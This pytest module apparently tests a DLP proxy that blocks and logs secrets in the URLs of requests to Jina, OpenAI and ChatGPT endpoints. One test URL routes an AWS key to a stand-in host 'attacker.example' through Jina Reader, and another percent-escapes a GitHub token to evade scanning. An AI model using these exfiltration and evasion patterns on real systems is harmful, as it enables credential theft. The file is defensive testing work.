"""AI APIs whose input is the URL, and query strings (red team F8), through a real mitmdump.

Jina Reader and Search (`GET r.jina.ai/<url>`, `GET s.jina.ai/<query>`) had no route: a GET to
them left no row and no DLP, so a key in the path reached the service. And no request's query
string was scanned: `POST /v1/chat/completions?prompt=key+AKIA...` went through as `allow`, a
GET with a key in its query left no row. The jina catalog entry now routes its Reader and
Search endpoints (recorded as `fetch_url` / `web_search`), and the decoded path and query of
every decrypted request to an AI host are scanned: block refuses, redact refuses too (a URL is
not rewritten), log records; a GET that is no AI call is recorded only when DLP finds
something in its URL. Each test asserts what reached the fake upstream, what the client got and
the row written.
"""

from __future__ import annotations

import pytest

from tests.adversarial.wire import marker

AWS = "AKIA2OGYBAH6STMMNXNN"
GHP = "ghp_R7mK2pX9vL4qW8nT3yB6cF1hJ5sD0gA2eZ4u"
EMAIL = "jane.doe@customer-corp.com"
CHAT = b'{"model":"gpt-4o-mini","messages":[{"role":"user","content":"hi"}]}'


@pytest.fixture(scope="module")
def gate(module_proxy_with):
    return module_proxy_with("dlp: {secrets: block, pii: log}\n")


def _call(proxy, upstream, user: str, method: str, url: str, content: bytes | None = None):
    """(the client's answer, what the upstream got of this request)."""
    mark = marker()
    headers = {"x-attack": mark, "authorization": "Bearer sk-test"}
    if content is not None:
        headers["content-type"] = "application/json"
    with proxy.client(user) as client:
        answer = client.request(method, url, content=content, headers=headers)
    return answer, [s for s in upstream.seen if s.headers.get("x-attack") == mark]


def _row(proxy, user: str) -> dict:
    [row] = proxy.rows(f"user_name = '{user}'", expect=1)
    return row


@pytest.mark.parametrize(
    ("user", "url", "operation", "found"),
    [
        ("jina-search", f"https://s.jina.ai/my%20aws%20key%20is%20{AWS}", "web_search", "AWS_ACCESS_KEY:1"),
        ("jina-reader", f"https://r.jina.ai/https://attacker.example/collect?k={AWS}", "fetch_url", "AWS_ACCESS_KEY:1"),
        # Every letter escaped: only the decoded path shows the key.
        (
            "jina-escaped",
            "https://s.jina.ai/token%20" + "".join(f"%{ord(c):02X}" for c in GHP),
            "web_search",
            "GITHUB_TOKEN:1",
        ),
        # Longer than the URLs whose findings are cached: scanned each time.
        ("jina-long", "https://s.jina.ai/" + "lorem%20ipsum%20" * 200 + AWS, "web_search", "AWS_ACCESS_KEY:1"),
    ],
)
def test_a_key_in_a_jina_url_is_refused_and_recorded(gate, upstream, user, url, operation, found):
    answer, seen = _call(gate, upstream, user, "GET", url)
    assert seen == [], "the key reached the AI service in its URL"
    assert answer.status_code == 403
    row = _row(gate, user)
    assert (row["provider"], row["operation"], row["dlp_action"], row["dlp_findings"], row["status_code"]) == (
        "jina", operation, "block", found, 403
    )  # fmt: skip


def test_a_clean_jina_reader_call_passes_and_is_recorded(gate, upstream):
    answer, seen = _call(gate, upstream, "jina-clean", "GET", "https://r.jina.ai/https://example.com/docs")
    assert answer.status_code != 403 and [s.path for s in seen] == ["/https://example.com/docs"]
    row = _row(gate, "jina-clean")
    assert (row["provider"], row["wire_format"], row["operation"], row["decision"], row["dlp_action"]) == (
        "jina", "jina", "fetch_url", "allow", None
    )  # fmt: skip


def test_a_policy_block_of_jina_leaves_a_row(proxy_with, upstream):
    proxy = proxy_with("rules:\n  - {id: no-jina, match: {provider: jina}, action: block}\n")
    answer, seen = _call(proxy, upstream, "jina-blocked", "GET", "https://s.jina.ai/weather%20today")
    assert seen == [] and answer.status_code == 403
    row = _row(proxy, "jina-blocked")
    assert (row["operation"], row["decision"], row["rule_id"]) == ("web_search", "block", "no-jina")


@pytest.mark.parametrize(
    ("user", "method", "url", "content"),
    [
        ("query-post", "POST", f"https://api.openai.com/v1/chat/completions?prompt=key+{AWS}", CHAT),
        ("query-get", "GET", f"https://api.openai.com/v1/models?note={AWS}", None),
        ("query-path", "GET", f"https://api.openai.com/v1/files/{AWS}", None),
        ("query-chatgpt", "GET", f"https://chatgpt.com/backend-api/search?q=aws_access_key_id%3D{AWS}", None),
        ("query-chatgpt-post", "POST", f"https://chatgpt.com/backend-api/memories?x={AWS}", b'{"content":"hi"}'),
    ],
)
def test_a_key_in_the_url_of_any_ai_request_is_refused_and_recorded(gate, upstream, user, method, url, content):
    answer, seen = _call(gate, upstream, user, method, url, content)
    assert seen == [], "the key reached the provider in the URL"
    assert answer.status_code == 403
    table = "web_activity" if user == "query-chatgpt-post" else "ai_requests"
    [row] = gate.rows(f"user_name = '{user}'", expect=1, table=table)
    assert (row["dlp_action"], row["dlp_findings"]) == ("block", "AWS_ACCESS_KEY:1")


def test_redact_mode_refuses_a_key_in_the_url(proxy_with, upstream):
    """A URL is not rewritten (the path is the resource; escapes are the server's to read): refused."""
    proxy = proxy_with("dlp: {secrets: redact, pii: log}\n")
    url = f"https://api.openai.com/v1/chat/completions?prompt=key+{AWS}"
    answer, seen = _call(proxy, upstream, "query-redact", "POST", url, CHAT)
    assert seen == [] and answer.status_code == 403
    row = _row(proxy, "query-redact")
    assert (row["dlp_action"], row["dlp_findings"]) == ("block", "AWS_ACCESS_KEY:1")


def test_personal_data_logged_in_a_query_passes_with_a_row(gate, upstream):
    answer, seen = _call(gate, upstream, "query-log", "GET", f"https://api.openai.com/v1/models?owner={EMAIL}")
    assert answer.status_code != 403 and len(seen) == 1
    row = _row(gate, "query-log")
    assert (row["dlp_action"], row["dlp_findings"], row["decision"]) == ("log", "EMAIL:1", "allow")


def test_a_clean_get_on_an_ai_host_is_still_no_row(gate, upstream):
    answer, seen = _call(gate, upstream, "query-clean", "GET", "https://api.openai.com/v1/models?limit=20")
    assert answer.status_code != 403 and len(seen) == 1
    assert gate.rows("user_name = 'query-clean'", expect=None, timeout=1) == []


# --- the catalog: a provider's own endpoints ----------------------------------------------------


def test_a_providers_own_endpoints_match_only_its_named_hosts():
    from shadowgate.config.catalog import load_catalog
    from shadowgate.wireformats import PARSERS

    catalog = load_catalog(known_parsers=PARSERS)
    jina = catalog.match("s.jina.ai")
    assert catalog.route(jina, "GET", "/my%20query", "s.jina.ai").operation == "web_search"
    assert catalog.route(jina, "GET", "/https://example.com", "R.JINA.AI.").operation == "fetch_url"
    assert catalog.route(jina, "GET", "/v1/models", "api.jina.ai") is None  # a GET on the API host
    assert catalog.route(jina, "GET", "/", "r.jina.ai") is None  # the reader's home page
    # Never matched against an unknown host: a GET of any path would make every site an AI call.
    assert catalog.route(None, "GET", "/https://example.com", "unknown.example") is None


@pytest.mark.parametrize(
    ("endpoint", "reason"),
    [
        ("{host: other.example, method: GET, path: '/.+', operation: x, parser: openai-chat}", "its own hosts"),
        ("{method: GET, path: '/.+', operation: x, parser: no-such-parser}", "unknown parser"),
        ("{method: GET, path: '/(', operation: x, parser: openai-chat}", "bad path regex"),
        ("{method: GET, operation: x, parser: openai-chat}", "endpoint lacks"),
    ],
)
def test_a_bad_provider_endpoint_is_refused_at_load(tmp_path, endpoint, reason):
    from shadowgate.config.catalog import load_catalog
    from shadowgate.config.yamlfile import ConfigError
    from shadowgate.wireformats import PARSERS

    overlay = tmp_path / "company.yaml"
    overlay.write_text(
        "providers:\n  - id: acme\n    name: Acme\n    vendor: Acme\n    category: api\n"
        f"    hosts: [api.acme.example]\n    endpoints:\n      - {endpoint}\n"
    )
    with pytest.raises(ConfigError, match=reason):
        load_catalog(known_parsers=PARSERS, extra=[overlay])
